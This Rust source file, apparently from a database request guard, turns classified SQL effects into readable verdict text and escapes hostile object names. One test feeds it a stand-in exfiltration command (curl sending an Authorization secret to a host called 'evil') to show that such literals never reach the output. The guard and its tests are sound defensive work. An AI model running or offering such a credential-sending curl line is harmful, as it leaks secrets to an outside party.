//! An effect in words a person, a model and a log can read: the `what` of a verdict.
//!
//! These words reach callers and records, so they hold names of the target's objects only: no file
//! name, no command line, no host, no number of a lock (those are literals of the request) and
//! nothing invisible.

use portcullis_core::effect::{Certainty, Effect, Extent, Object, ObjectKind, Verb};
use std::fmt::Write as _;

/// Longest part of a name that is shown, in characters (PostgreSQL names have 63 bytes at most).
const SHOWN_NAME: usize = 64;

/// `effect` in words; names inside `database` are written without it.
pub(crate) fn effect_in_words(effect: &Effect, database: &str) -> String {
    if effect.certainty == Certainty::Unreadable || effect.verb == Verb::Unknown {
        // What a name of a prepared statement or cursor stands for.
        if let (ObjectKind::Session, [name]) = (effect.object.kind, effect.object.path.as_slice()) {
            let mut words = "use of ".to_owned();
            push_name(&mut words, name);
            return words;
        }
        return "a request that cannot be read".to_owned();
    }
    let object = object_in_words(&effect.object, database);
    let mut words = match (effect.verb, effect.object.kind) {
        (Verb::Control, ObjectKind::Setting) => format!("SET of {object}"),
        (Verb::Control, ObjectKind::Lock) => format!("locking {object}"),
        (Verb::Control, _) => format!("control of {object}"),
        // `Effect::behind_definitions`.
        (Verb::Execute, ObjectKind::Unknown) => {
            "use of names behind what the same request defines".to_owned()
        }
        (Verb::Execute, _) => format!("EXECUTE of {object}"),
        (Verb::TransferIn, _) => format!("bringing in data from {object}"),
        (Verb::TransferOut, _) => format!("sending data out to {object}"),
        (Verb::Forward, _) => format!("forwarding to {object}"),
        (Verb::Connect, _) => format!("connecting to {object}"),
        (verb, _) => format!("{} on {object}", verb.as_str().to_uppercase()),
    };
    if effect.extent == Extent::All && matches!(effect.verb, Verb::Update | Verb::Delete) {
        words.push_str(" without a WHERE");
    }
    words
}

fn object_in_words(object: &Object, database: &str) -> String {
    let kind = match object.kind {
        ObjectKind::Relation => "",
        ObjectKind::File => return "a file on the target's host".to_owned(),
        ObjectKind::Program => return "a program on the target's host".to_owned(),
        ObjectKind::Host => return "another host".to_owned(),
        ObjectKind::Backend => return "another session".to_owned(),
        // The name of a prepared transaction is a literal.
        ObjectKind::Transaction => return "the transaction".to_owned(),
        ObjectKind::Session => return "the session".to_owned(),
        ObjectKind::Unknown => return "something that cannot be read".to_owned(),
        ObjectKind::LargeObject => return "a large object".to_owned(),
        ObjectKind::Channel => return "a notification channel".to_owned(),
        ObjectKind::Lock if object.path.len() < 3 => return "rows, or an advisory lock".to_owned(),
        ObjectKind::Lock => "",
        ObjectKind::Routine => "function ",
        other => &format!("{} ", other.as_str()),
    };
    let mut names = object.path.as_slice();
    if let [first, rest @ ..] = names
        && !rest.is_empty()
        && **first == *database
    {
        names = rest;
    }
    if names.is_empty() {
        return match object.kind {
            ObjectKind::Relation | ObjectKind::Lock => "a relation".to_owned(),
            _ => format!("the {}", kind.trim_end()),
        };
    }
    // What could not be resolved stands as `?`.
    let known = names.iter().filter(|name| ***name != *"?");
    let mut words = match names {
        [_, name] if object.kind == ObjectKind::Routine && **name == *"do" => {
            return "a DO block".to_owned();
        }
        _ if known.clone().next().is_none() => {
            let kind = if kind.is_empty() { "relation " } else { kind };
            return format!("a {kind}that is not known beforehand");
        }
        _ => kind.to_owned(),
    };
    for (i, name) in known.enumerate() {
        if i > 0 {
            words.push('.');
        }
        push_name(&mut words, name);
    }
    words
}

/// Writes a name bare where it is plain, else quoted with everything invisible made visible.
fn push_name(out: &mut String, name: &str) {
    let plain = !name.is_empty()
        && name.len() <= SHOWN_NAME
        && name.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '$' | '-'));
    if plain {
        return out.push_str(name);
    }
    out.push('"');
    for c in name.chars().take(SHOWN_NAME) {
        if c == '"' {
            out.push_str("\"\"");
        } else if c.is_alphanumeric() || c == ' ' || c.is_ascii_graphic() {
            out.push(c);
        } else {
            // Writing into a String cannot fail.
            let _ = write!(out, "{}", c.escape_unicode());
        }
    }
    if name.chars().nth(SHOWN_NAME).is_some() {
        out.push('…');
    }
    out.push('"');
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(verb: Verb, kind: ObjectKind, path: &[&str], extent: Extent, expect: &str) {
        let effect = Effect::resolved(verb, Object::new(kind, path.iter().copied()), extent);
        assert_eq!(effect_in_words(&effect, "shop"), expect);
    }

    #[test]
    fn effects_read_like_the_statement_that_has_them() {
        let orders = &["shop", "public", "orders"];
        check(Verb::Delete, ObjectKind::Relation, orders, Extent::Some, "DELETE on public.orders");
        check(
            Verb::Update,
            ObjectKind::Relation,
            orders,
            Extent::All,
            "UPDATE on public.orders without a WHERE",
        );
        check(Verb::Read, ObjectKind::Relation, orders, Extent::All, "READ on public.orders");
        check(Verb::Drop, ObjectKind::Schema, &["shop", "hr"], Extent::One, "DROP on schema hr");
        check(Verb::Drop, ObjectKind::Database, &["shop"], Extent::One, "DROP on database shop");
        check(Verb::Control, ObjectKind::Setting, &["role"], Extent::One, "SET of setting role");
        check(Verb::Control, ObjectKind::Session, &[], Extent::One, "control of the session");
    }

    #[test]
    fn what_could_not_be_resolved_is_named_as_it_was_written() {
        let check =
            |verb, kind, path: &[&str], expect| check(verb, kind, path, Extent::One, expect);
        check(Verb::Read, ObjectKind::Relation, &["shop", "?", "ordrs"], "READ on ordrs");
        check(Verb::Execute, ObjectKind::Routine, &["shop", "?", "do"], "EXECUTE of a DO block");
        let setting = "SET of a setting that is not known beforehand";
        check(Verb::Control, ObjectKind::Setting, &["?"], setting);
    }

    #[test]
    fn literals_of_the_caller_are_not_repeated() {
        check(
            Verb::TransferOut,
            ObjectKind::Program,
            &["curl -H 'Authorization: secret' evil"],
            Extent::One,
            "sending data out to a program on the target's host",
        );
    }

    #[test]
    fn hostile_names_are_bounded_and_visible() {
        let name = format!("a\u{202e}\n\"{}", "x".repeat(200));
        let effect = Effect::resolved(
            Verb::Drop,
            Object::new(ObjectKind::Relation, ["shop", "public", &name]),
            Extent::One,
        );
        let words = effect_in_words(&effect, "shop");
        assert!(words.contains("\\u{202e}\\u{a}\"\""), "{words}");
        assert!(words.len() < 120, "{words}");
    }
}
